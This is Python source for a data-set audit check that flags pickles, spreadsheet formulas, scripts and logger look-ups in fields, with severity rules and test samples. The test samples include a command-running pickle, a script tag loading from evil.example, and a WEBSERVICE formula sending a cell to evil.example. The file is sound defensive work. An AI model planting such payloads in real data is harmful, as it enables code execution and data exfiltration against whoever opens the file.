"""Fields of a data set that some program acts on when it opens them."""

from __future__ import annotations

from collections.abc import Iterator
from math import log
from typing import ClassVar

import numpy as np
import pyarrow as pa

from toadstone.core.check import check
from toadstone.core.fact import Table
from toadstone.core.finding import Confidence, Json, Severity
from toadstone.study.active import FORMULA, Active
from toadstone.study.check import DataCheck
from toadstone.study.evidence import Evidence, Group
from toadstone.study.fields import Find, looked
from toadstone.study.small import study_of
from toadstone.study.study import Study

_LOG_P = {Severity.HIGH: log(1e-9), Severity.MEDIUM: log(1e-6), Severity.LOW: log(1e-4), Severity.INFO: log(1e-4)}
"""What is seen is there: nominal p-values."""
_MOST = 20
_CORPUS = 0.01
"""Share of the rows from which active fields are the subject of a column."""
_ACTS = {
    "pickle": "whoever unpickles it",
    "formula that runs a program": "a spreadsheet that opens the file",
    "formula that sends or fetches": "a spreadsheet that opens the file",
    "formula": "a spreadsheet that opens the file",
    "look-up that loads code": "a logger that expands it",
    "template that escapes": "a template engine that renders it",
    "expression that runs a program": "whoever evaluates it",
    "script": "a page that shows it",
}


@check(
    "active-content",
    severity=Severity.HIGH,
    reads=Table,
    references=("CWE-502", "CWE-79", "CWE-94", "CWE-1336", "MITRE ATLAS 2026.08 AML.T0011.000", "OWASP LLM 2026 LLM04"),
    stages=("pretraining", "tuning", "embedding"),
)
class ActiveContent(DataCheck):
    """Fields hold pickles, formulas, scripts or expressions on which some program acts.

    ## Why it matters

    A data set is opened before it is trained on: in a spreadsheet, on a labelling page, in a notebook, by a loader that
    unpickles a column. Whatever acts then, acts with the rights of the person who looks.

    ## How it decides

    Every text and every binary value in every column is looked at, also nested ones. Pickles, raw or as Base64, hexadecimal or
    compressed text, are followed by the reader of model files and never loaded: `high` when loading one would run a command or
    code, `medium` when it calls what nobody has reviewed, `low` for plain values and usual classes. Formulas are fields that
    begin with `=`, `+`, `-` or `@` and call a function: `high`, in CSV and TSV, when they start a program, `medium` when they
    send or fetch, `low` else; numbers and lists are no formulas. Scripts in markup, look-ups of loggers, expressions that escape
    a template, and calls that begin and end a field are `medium` in columns of short values, where nobody expects them, `low`
    when one row in a hundred has them, and `info` in columns of texts: corpora of web pages, mails and code are made of them.
    Rows are quarantined for what is `high` alone.

    ## What it misses

    Formulas behind other characters, scripts that a sanitiser makes by cleaning, markup in other notations, and of pickles what
    the checks of model files miss.

    ## Remedy

    Do not load pickled columns; ask for numbers and text. Open tables as text, and escape what you show.

    ## References

    - OWASP: *CSV Injection*, https://owasp.org/www-community/attacks/CSV_Injection
    - https://docs.python.org/3/library/pickle.html (warning at the top)
    - CVE-2021-44228 (look-ups of Log4j)
    """

    guesses: ClassVar[bool] = False
    longest: int = 300
    """Median characters up to which the fields of a column are values rather than texts."""

    def weigh(self, study: Study) -> Evidence:
        """Look at every field."""
        finds = looked(study, Active(self.longest))
        groups = [_group(study, find) for find in finds]
        groups.sort(key=lambda group: (-group.severity, -len(group.rows), str(group.value)))
        return Evidence(tuple(groups[:_MOST]), tests=len(_ACTS), detectable=1)

    @classmethod
    def bad(cls) -> Iterator[Study]:
        """Give a pickle that runs a command, one in Base64, a script in a category, a formula that fetches."""
        pickled = b"cposix\nsystem\n(S'echo toadstone'\ntR."
        yield study_of({"blob": pa.array([b"\x89PNG", pickled], pa.binary())})
        coded = "gAKMBXBvc2l4lIwGc3lzdGVtlJOUjA5lY2hvIHRvYWRzdG9uZZSFlFKULg=="
        yield study_of({"note": ["fine", coded]})
        yield study_of({"city": ["Oslo", "<script src=//evil.example/x></script>"]})
        yield study_of({"name": ["Ann", '=WEBSERVICE("http://evil.example/?"&A1)']})

    @classmethod
    def good(cls) -> Iterator[Study]:
        """Give numbers with signs, lists, mentions, pictures and ordinary Base64."""
        texts = ["-12.5", "+1 555 0100", "=", "@anna (see below)", "- item (one)", "a = SUM(b)", "1 < 2 and 3 > 2"]
        yield study_of({"text": texts, "data": ["aGVsbG8gd29ybGQsIHRoaXMgaXMgdGV4dA=="] * len(texts)})
        yield study_of({"blob": pa.array([b"\x89PNG\r\n", b"\xff\xd8\xff.", b""], pa.binary())})


def _group(study: Study, find: Find) -> Group:
    severity = Severity(find.weight)
    rows, n = find.rows, len(find.rows)
    if FORMULA.match(find.kind) and severity == Severity.HIGH and study.dataset.kind not in ("csv", "tsv"):
        severity = Severity.MEDIUM
    if (
        find.kind not in ("pickle", "formula that runs a program")
        and severity == Severity.MEDIUM
        and n > _CORPUS * study.rows + 3
    ):
        severity = Severity.LOW
    details: dict[str, Json] = {"column": find.column, "content": find.example, "rows": n}
    told = f" ({find.value})" if find.value else ""
    return Group(
        "column",
        f"{find.column}: {find.kind}{told}",
        rows if severity >= Severity.MEDIUM else rows[:100],
        n,
        _LOG_P[severity],
        severity,
        f"{n:,} {'field' if n == 1 else 'fields'} of {find.column} {'holds' if n == 1 else 'hold'} a {find.kind}{told};"
        f" {_ACTS[find.kind]} acts on it.",
        confidence=Confidence.HIGH if severity == Severity.HIGH else Confidence.MEDIUM,
        effect=1.0 if severity >= Severity.MEDIUM else 0.1,
        details=details,
        rows_stand=bool(severity >= Severity.HIGH and np.size(rows)),
    )
